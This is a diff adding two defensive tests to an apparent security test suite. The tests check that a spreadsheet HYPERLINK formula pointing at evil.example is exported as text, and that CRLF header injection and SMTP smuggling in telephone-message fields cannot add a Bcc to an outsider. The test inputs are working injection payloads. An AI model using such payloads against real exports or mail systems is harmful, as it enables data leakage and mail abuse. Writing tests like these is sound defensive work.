@@ -269,6 +269,41 @@ class AttackSuiteTest {
         assertThat(gw.gateway().quarantine().store().find(id).orElseThrow().status()).isEqualTo(Status.HELD);
     }
 
+    /** A value an outsider controls (a login name) reaches the audit export as text, never as a formula. */
+    @Test
+    void aFormulaInALoginNameIsExportedAsText() throws Exception {
+        login("127.0.4.1", "=HYPERLINK(\"http://evil.example\",\"x\")", "guess");
+        Page csv = as(Role.AUDITOR).get("/audit.csv");
+        assertThat(csv.status()).isEqualTo(200);
+        assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")
+                .doesNotContainPattern("(?m)(^|,)\"?=HYPERLINK");
+    }
+
+    /** Line breaks typed into a telephone message cannot add a header (a Bcc to an outsider) to the mail. */
+    @Test
+    void lineBreaksInATelephoneMessageCannotAddHeaders() throws Exception {
+        WebClient staff = as(Role.STAFF);
+        staff.get("/messages/new");
+        java.time.format.DateTimeFormatter minutes = java.time.format.DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm");
+        java.time.LocalDateTime now = java.time.LocalDateTime.now();
+        Page p = staff.post("/messages", "officer", "jane.smith@council.example", "call_at",
+                minutes.format(now.minusMinutes(5)), "caller_name", "Eve\r\nBcc: evil@evil.example",
+                "caller_from", "Acme\r\nX-Injected: yes", "return_number", "01632 960321", "reason",
+                "Call back\r\n.\r\nMAIL FROM:<evil@evil.example>", "call_back_by",
+                minutes.format(now.plusHours(2)));
+        assertThat(p.status()).isIn(303, 422);
+        if (p.status() == 303) {
+            org.awaitility.Awaitility.await().atMost(java.time.Duration.ofSeconds(30)).until(() -> internal.received()
+                    .stream().anyMatch(r -> r.recipients().contains("jane.smith@council.example")));
+            TestSink.Received mail = internal.received().stream()
+                    .filter(r -> r.recipients().contains("jane.smith@council.example")).findFirst().orElseThrow();
+            String headers = mail.text().substring(0, mail.text().indexOf("\r\n\r\n"));
+            assertThat(headers).doesNotContainPattern("(?mi)^Bcc:").doesNotContainPattern("(?mi)^X-Injected:");
+            assertThat(mail.recipients()).containsExactly("jane.smith@council.example");
+        }
+        assertThat(external.received()).noneMatch(r -> r.recipients().contains("evil@evil.example"));
+    }
+
     // ---- helpers ----------------------------------------------------------------------------
 
     private int failures(String actor, String detail) throws Exception {
